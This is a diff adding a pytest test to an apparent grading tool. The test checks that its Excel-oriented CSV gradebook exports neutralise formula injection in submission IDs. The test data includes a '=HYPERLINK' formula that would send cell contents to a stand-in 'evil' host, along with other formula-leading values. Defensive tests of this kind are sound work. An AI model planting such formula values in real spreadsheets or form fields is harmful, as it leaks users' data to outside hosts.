@@ -437,3 +437,30 @@ def test_a_hostile_notebook_gets_feedback_with_no_structure_of_its_own(tmp_path,
     page = feedback_page(result, notebook_path=path)
     assert "evil.example/md.png" not in page and "data:text" not in page
     assert "&lt;img src=http://evil.example/i.png&gt;" in page
+
+
+def test_score_changes_and_the_excel_gradebook_have_no_formula_from_a_file_name(tmp_path):
+    """The files a TA opens in a spreadsheet (thirty-third session's check, CSV injection):
+    ``score-changes.csv`` and ``grades.csv`` written for Excel (``--excel``, a byte-order mark
+    first) give a submission id that starts a formula a leading ``'``, as plain ``grades.csv``
+    does (``tests/test_review_session6.py``). Both were inert already when this was checked."""
+    import csv
+    import io
+
+    from grader.commands import DEFAULT_RUBRIC
+    from grader.rubric import load_rubric
+    from grader.runner import unreadable_result
+
+    rubric = load_rubric(DEFAULT_RUBRIC)
+    ids = ['=HYPERLINK("http://evil/?"&A1)', "+1", "-2", "@SUM(A1)", "\tx", "ada"]
+    book = report.Gradebook(rubric)
+    for sid in ids:
+        book.add(unreadable_result(rubric, submission_id=sid, path="x", message=""))
+    escaped = ["'" + sid for sid in ids[:5]] + ["ada"]
+    path = book.write_changes(tmp_path, {cell: (5.0, 100.0) for cell in escaped}, bom=True)
+    text = path.read_text("utf-8-sig")
+    assert sorted([row[0] for row in csv.reader(io.StringIO(text))][1:]) == sorted(escaped)
+    text = book.write(tmp_path, bom=True).read_bytes()
+    assert text.startswith(b"\xef\xbb\xbf")
+    column = [row[0] for row in csv.reader(io.StringIO(text.decode("utf-8-sig")))][1:]
+    assert sorted(column) == sorted(escaped)
